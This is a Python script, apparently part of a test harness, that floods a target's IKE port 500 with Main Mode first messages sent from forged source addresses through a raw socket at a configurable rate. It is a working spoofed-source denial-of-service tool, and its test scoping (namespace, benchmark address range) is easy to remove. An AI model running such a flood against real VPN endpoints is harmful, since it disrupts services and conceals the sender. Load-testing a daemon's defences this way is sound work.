#!/usr/bin/env python3
"""flood.py: Main Mode message 1 from forged addresses, at a fixed rate.

Each datagram is an MM1 with a fresh initiator cookie and a source
address drawn from 198.18.0.0/15, written with a raw socket (IP_HDRINCL)
so that one process can forge any number of addresses.  Run it in a
network namespace whose routes reach the target only through the test's
own links.  It prints one JSON line: packets sent, seconds, rate.

    flood.py --target 198.51.100.1 --rate 10000 --seconds 30
"""

import argparse
import json
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from hostile import mm1_bytes  # noqa: E402

LOAD_NET = 0xC6120000       # 198.18.0.0
LOAD_HOSTS = 1 << 17        # /15
BATCH_SECONDS = 0.005


def ip_udp(src, dst, sport, payload):
    """IPv4 and UDP headers; the kernel fills in the IP checksum and ID,
    and a UDP checksum of zero means none (RFC 768)."""
    udp = struct.pack("!HHHH", sport, 500, 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + 8 + len(payload), 0,
                     0x4000, 64, socket.IPPROTO_UDP, 0, src, dst)
    return bytearray(ip + udp + payload)


def flood(target, rate, seconds):
    dst = socket.inet_aton(target)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    packet = ip_udp(bytes(4), dst, 500, mm1_bytes())
    # Each datagram changes the source address and the initiator cookie.
    src_offset, cookie_offset = 12, 28

    n = 0
    seq = int.from_bytes(os.urandom(4), "big")
    start = time.monotonic()
    end = start + seconds
    per_batch = max(1, int(rate * BATCH_SECONDS))

    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * rate)
        if n >= due:
            time.sleep(BATCH_SECONDS / 2)
            continue
        for _ in range(min(per_batch, due - n + per_batch)):
            seq = (seq * 1103515245 + 12345) & 0xffffffff
            host = 1 + seq % (LOAD_HOSTS - 2)
            struct.pack_into("!I", packet, src_offset, LOAD_NET + host)
            struct.pack_into("!II", packet, cookie_offset, seq, n)
            try:
                sock.sendto(packet, (target, 0))
            except (BlockingIOError, OSError):
                continue
            n += 1
    took = time.monotonic() - start

    return {"sent": n, "seconds": round(took, 2),
            "rate": int(n / took) if took > 0 else 0}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--target", required=True)
    parser.add_argument("--rate", type=int, default=10000)
    parser.add_argument("--seconds", type=float, default=30)
    args = parser.parse_args()
    print(json.dumps(flood(args.target, args.rate, args.seconds)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
